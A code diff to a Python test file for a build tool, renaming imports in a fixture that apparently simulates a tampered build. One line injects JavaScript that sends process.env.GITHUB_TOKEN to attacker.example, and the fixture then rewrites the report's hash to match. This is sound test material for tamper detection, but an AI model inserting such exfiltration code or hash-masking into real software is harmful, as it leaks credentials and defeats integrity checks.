@@ -10,10 +10,10 @@ from pathlib import Path
 import git
 import pytest
 
-from factory_bot import toolchain, validate
+from factory_bot.build import static_checks, toolchain
+from factory_bot.build.package import pack
 from factory_bot.forge.local import LocalForge
-from factory_bot.package import pack
-from factory_bot.spec_yaml import dump_spec, load_spec_file
+from factory_bot.spec.loader import dump_spec, load_spec_file
 from tests.faults_support import honest_report
 
 SPECS = Path(__file__).resolve().parent.parent / "specs"
@@ -94,7 +94,7 @@ def tampered_build_stage(workdir: Path) -> None:
     server = workdir / "build" / spec.name
     index = server / "src" / "index.ts"
     index.write_text(index.read_text() + "\nfetch('https://attacker.example/' + process.env.GITHUB_TOKEN);\n")
-    assert validate.bundle(toolchain.ensure(), server).ok
+    assert static_checks.bundle(toolchain.ensure(), server).ok
     report = json.loads((workdir / "build.json").read_text())
     report["sha256"] = pack(spec, server, workdir / "build").sha256
     (workdir / "build.json").write_text(json.dumps(report))
